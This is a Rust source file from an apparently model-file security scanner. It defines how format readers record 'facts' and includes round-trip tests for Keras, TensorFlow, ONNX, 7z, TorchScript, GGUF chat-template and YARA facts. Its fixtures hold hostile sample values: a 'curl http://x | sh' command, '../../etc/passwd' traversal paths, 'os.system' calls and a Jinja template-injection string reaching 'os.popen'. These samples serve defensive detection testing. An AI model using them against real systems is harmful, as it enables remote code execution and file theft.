//! Facts: what a format reader found in a file, as plain serialisable values, before any rule
//! decides what they mean. Each format module declares its own facts type (its output
//! schema, documented field by field); [`Facts`] has one variant per module. Readers produce
//! [`Facts`] and do not import `rules`; each rule's check sits beside its `rule!` metadata (`rules/<area>.rs`) as
//! `fn(&Facts, &Policy, &mut Emitter)`, and [`crate::rules::check`] runs them all. Stored
//! facts can be judged again under another policy or rule set without the file's bytes, as
//! long as [`EXTRACTOR_VERSION`] is unchanged.
//!
//! Every reader produces facts: zip structure, archive members (zip, tar, 7z), NumPy and
//! safetensors headers, msgpack, the file name against the content, TFLite, Keras, TensorFlow,
//! ONNX, GGUF and chat templates, TorchScript code, pickles (`judge::pickle::facts`). What the
//! scan driver observes itself (malformed input, limits, polyglots) is recorded beside them
//! in the file's journal (`scan::FileAnalysis`), from which the report is judged. YARA
//! signature matches are facts too (`signatures::SignatureFacts`).
//!
//! Must not: read bytes (readers do) or decide severities (rules do).

pub use crate::formats::facts::{ArchiveLink, ArchiveMemberFacts, Facts, FactsKind, NameFacts};
use crate::report::{Finding, Location};

/// Version of what the readers extract: bump it when a reader's facts change (a new field, a
/// fact read differently). Facts stored under another version need the bytes again.
pub const EXTRACTOR_VERSION: u32 = 2;

/// Something a check could not decide, which makes the file `incomplete` (an encrypted
/// member, say).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Undecided {
    /// Short machine-readable kind (`encrypted`).
    pub kind: &'static str,
    /// Human-readable detail.
    pub message: String,
    /// Member path relative to the facts' file, if any.
    pub member: Option<String>,
}

/// Where checks put what they conclude.
#[derive(Debug, Default)]
pub struct Emitter {
    findings: Vec<Finding>,
    undecided: Vec<Undecided>,
}

impl Emitter {
    /// Report a finding (its location relative to the facts' file).
    pub fn emit(&mut self, finding: Finding) {
        self.findings.push(finding);
    }

    /// Note what could not be decided.
    pub fn undecided(&mut self, kind: &'static str, message: String, member: Option<String>) {
        self.undecided.push(Undecided {
            kind,
            message,
            member,
        });
    }

    /// The findings and the undecided notes, in the order emitted.
    pub fn into_parts(self) -> (Vec<Finding>, Vec<Undecided>) {
        (self.findings, self.undecided)
    }
}

/// For readers' tests: `o` with its facts judged under the default policy into `findings`
/// (a reader converted to facts emits none itself).
#[cfg(test)]
#[allow(clippy::panic)]
pub(crate) fn judged(mut o: crate::formats::Outcome) -> crate::formats::Outcome {
    assert!(o.findings.is_empty(), "the reader emitted findings itself");
    let policy = crate::policy::Policy::default();
    for f in &o.facts {
        o.findings.extend(crate::rules::judge(f, &policy).0);
    }
    o
}

impl Undecided {
    /// Its location, under `member` (the facts' file inside its containers).
    pub fn location(&self, member: Option<&str>) -> Location {
        Location {
            member: match (member, &self.member) {
                (Some(m), Some(inner)) => Some(format!("{m}!{inner}")),
                (Some(m), None) => Some(m.to_string()),
                (None, inner) => inner.clone(),
            },
            ..Location::default()
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::indexing_slicing)]
mod tests {
    use super::*;
    use crate::formats::FormatId;
    use crate::rules::judge;

    #[test]
    fn facts_round_trip_through_json_and_judge_the_same() {
        let f = Facts::Npy(crate::formats::npy::NpyFacts {
            descr: "'|O'".into(),
            object: true,
            data_offset: 128,
        });
        let text = serde_json::to_string(&f).unwrap();
        let back: Facts = serde_json::from_str(&text).unwrap();
        assert_eq!(back, f);
        let policy = crate::policy::Policy::default();
        assert_eq!(judge(&f, &policy).0, judge(&back, &policy).0);
        assert_eq!(judge(&f, &policy).0.len(), 1);
    }

    /// `f` serialises, deserialises to itself and judges to the same `n` findings.
    fn round_trip(f: &Facts, n: usize) {
        let text = serde_json::to_string(f).unwrap();
        let back: Facts = serde_json::from_str(&text).unwrap();
        assert_eq!(&back, f, "{text}");
        let policy = crate::policy::Policy::default();
        let (a, b) = (judge(f, &policy).0, judge(&back, &policy).0);
        assert_eq!(a, b);
        assert_eq!(a.len(), n, "{a:?}");
    }

    fn hit(cap: modelguard_pycode::catalog::Capability, target: &str) -> modelguard_pycode::Hit {
        modelguard_pycode::Hit {
            capability: cap,
            target: target.into(),
            evidence: format!("{target}('id')"),
            chain: vec!["base64".into()],
            line: Some(1),
        }
    }

    fn code(hits: Vec<modelguard_pycode::Hit>) -> modelguard_pycode::CodeFacts {
        modelguard_pycode::CodeFacts {
            hits,
            unknown_calls: vec!["tf.reduce_mean".into()],
            payloads: vec![modelguard_pycode::Payload {
                kind: modelguard_pycode::PayloadKind::Compressed(
                    modelguard_pycode::decode::Encoding::Zlib,
                ),
                data: Vec::new(),
                chain: vec!["zlib".into(), "pickle.loads".into()],
            }],
            inert: false,
            errors: vec!["stopped".into()],
            complete: false,
        }
    }

    #[test]
    fn keras_facts_round_trip() {
        use crate::formats::keras::{KerasEntry, KerasFacts, KerasItem};
        use modelguard_pycode::catalog::Capability;
        let e = |layer: &str, item| KerasEntry {
            layer: layer.into(),
            item,
        };
        let f = Facts::Keras(KerasFacts {
            entries: vec![
                e(
                    "d",
                    KerasItem::Function {
                        module: "os".into(),
                        name: "system".into(),
                    },
                ),
                e(
                    "c",
                    KerasItem::Class {
                        module: "mypkg.layers".into(),
                        class_name: "MyLayer".into(),
                    },
                ),
                e(
                    "f",
                    KerasItem::LambdaFunction {
                        module: String::new(),
                        name: "eval".into(),
                    },
                ),
                e(
                    "r",
                    KerasItem::Registered {
                        name: "mypkg>Thing".into(),
                    },
                ),
                e(
                    "t",
                    KerasItem::TfOp {
                        function: "io.write_file".into(),
                    },
                ),
                e(
                    "l",
                    KerasItem::Lambda {
                        code: code(vec![hit(Capability::ProcessExec, "os.system")]),
                    },
                ),
                e("m", KerasItem::Lambda { code: code(vec![]) }),
                e(
                    "u",
                    KerasItem::UnreadableLambda {
                        why: "empty code".into(),
                    },
                ),
            ],
        });
        round_trip(&f, 8);
    }

    #[test]
    fn tensorflow_facts_round_trip() {
        use crate::formats::tensorflow::{TfAsset, TfFacts, TfNode};
        let node = |op: &str, args: &[&str]| TfNode {
            graph: "graph".into(),
            name: format!("n_{op}"),
            op: op.into(),
            args: args.iter().map(|a| a.to_string()).collect(),
            token: None,
            memory_region: None,
            urls: vec![],
            output_stream: None,
        };
        let f = Facts::Tensorflow(TfFacts {
            assets: vec![TfAsset {
                meta_graph: 0,
                filename: "../../etc/passwd".into(),
            }],
            nodes: vec![
                node("WriteFile", &["/tmp/x"]),
                TfNode {
                    token: Some("pyfunc_0".into()),
                    ..node("EagerPyFunc", &[])
                },
                node("InitializeTableFromTextFileV2", &["assets/vocab.txt"]),
                TfNode {
                    urls: vec!["file:///tmp/dump".into()],
                    ..node("DebugIdentity", &[])
                },
            ],
        });
        round_trip(&f, 5);
    }

    #[test]
    fn onnx_facts_round_trip() {
        use crate::formats::onnx::{OnnxCodeString, OnnxExternalData, OnnxFacts, OnnxFunction};
        use modelguard_pycode::catalog::Capability;
        let f = Facts::Onnx(OnnxFacts {
            external_data: vec![
                OnnxExternalData {
                    tensor: Some("g:w".into()),
                    location: "../../etc/passwd".into(),
                },
                OnnxExternalData {
                    tensor: None,
                    location: "weights.bin".into(),
                },
            ],
            custom_ops: [("com.example".to_string(), ["Evil".to_string()].into())].into(),
            functions: vec![OnnxFunction {
                domain: "local".into(),
                name: "MyFn".into(),
            }],
            code: vec![OnnxCodeString {
                node: "g/n".into(),
                domain: "ai.onnx.contrib".into(),
                op: "PyOp".into(),
                attribute: "code".into(),
                hits: vec![hit(Capability::ProcessExec, "os.system")],
                command: Some("curl http://x | sh".into()),
            }],
            inconsistent_tensors: vec!["g:w: negative dimension -1".into()],
            inconsistent_count: 12,
        });
        round_trip(&f, 6);
    }

    #[test]
    fn sevenzip_facts_round_trip() {
        use crate::formats::sevenzip::{SevenZipFacts, SevenZipLink};
        let f = Facts::SevenZip(SevenZipFacts {
            members: vec!["ok.pkl".into(), "../evil.pkl".into()],
            links: vec![SevenZipLink {
                name: "a/link".into(),
                target: "../../etc/passwd".into(),
            }],
            declared_bytes: 1 << 40,
            packed_bytes: 1000,
            max_ratio: 1000,
        });
        round_trip(&f, 3);
    }

    #[test]
    fn torchscript_facts_round_trip() {
        use modelguard_pycode::catalog::Capability;
        let f = Facts::TorchscriptCode(crate::formats::torchscript::TorchScriptFacts {
            code: code(vec![
                hit(Capability::ProcessExec, "os.system"),
                hit(Capability::FileRead, "builtins.open"),
            ]),
        });
        round_trip(&f, 2);
    }

    /// `facts` survives JSON and judges the same after it; returns its findings.
    fn round_trip_found(f: &Facts) -> Vec<Finding> {
        let text = serde_json::to_string(f).unwrap();
        let back: Facts = serde_json::from_str(&text).unwrap();
        assert_eq!(&back, f);
        let policy = crate::policy::Policy::default();
        let (a, b) = (judge(f, &policy).0, judge(&back, &policy).0);
        assert_eq!(a, b);
        a
    }

    #[test]
    fn gguf_facts_round_trip() {
        let f = Facts::Gguf(crate::formats::gguf::GgufFacts {
            version: 3,
            big_endian: false,
            tensor_count: 2,
            kv_count: 4,
            duplicate_keys: vec!["tokenizer.chat_template".into()],
        });
        let found = round_trip_found(&f);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].rule, "MG-GGUF-HEADER");
    }

    #[test]
    fn chat_template_facts_round_trip() {
        use crate::formats::gguf::jinja::{Escape, EscapeKind};
        let f = Facts::ChatTemplate(crate::formats::gguf::TemplateFacts {
            name: "tokenizer.chat_template".into(),
            offset: Some(414),
            unparsed: Some(crate::formats::gguf::Unparsed {
                reason: "Jinja parse error: unexpected end of input".into(),
                head: "{{ x|attr('__glo' 'bals__')() }}".into(),
            }),
            escapes: vec![
                Escape {
                    kind: EscapeKind::CodeName,
                    what: "string __globals__".into(),
                    evidence: "'__glo' 'bals__'".into(),
                    path: vec![],
                    line: 1,
                    column: 11,
                },
                Escape {
                    kind: EscapeKind::CommandThroughInternals,
                    what: "popen reached through __globals__.os".into(),
                    evidence: "lipsum.__globals__.os.popen('id')".into(),
                    path: vec!["__globals__".into(), "os".into()],
                    line: 2,
                    column: 4,
                },
            ],
        });
        let found = round_trip_found(&f);
        let rules: Vec<&str> = found.iter().map(|x| x.rule.as_str()).collect();
        assert_eq!(rules, ["MG-TEMPLATE-PARSE", "MG-TEMPLATE-SSTI"]);
        assert_eq!(found[1].severity, crate::report::Severity::Critical);
        assert_eq!(found[1].location.offset, Some(414));
    }

    #[test]
    fn signature_facts_round_trip_through_json_and_judge_the_same() {
        let f = Facts::Signatures(crate::signatures::SignatureFacts {
            matches: vec![crate::signatures::SignatureMatch {
                namespace: "modelguard".into(),
                rule: "MG_EICAR_Test_Signature".into(),
                string: Some("$eicar".into()),
                offset: Some(13),
                severity: Some("high".into()),
                message: Some("EICAR test signature".into()),
                description: None,
            }],
            format: Some(FormatId::Safetensors),
        });
        let text = serde_json::to_string(&f).unwrap();
        assert!(text.starts_with(r#"{"kind":"signatures","#), "{text}");
        let back: Facts = serde_json::from_str(&text).unwrap();
        assert_eq!(back, f);
        let policy = crate::policy::Policy::default();
        let (found, undecided) = judge(&back, &policy);
        assert_eq!(found, judge(&f, &policy).0);
        assert_eq!(found.len(), 1);
        assert!(undecided.is_empty());
    }
}
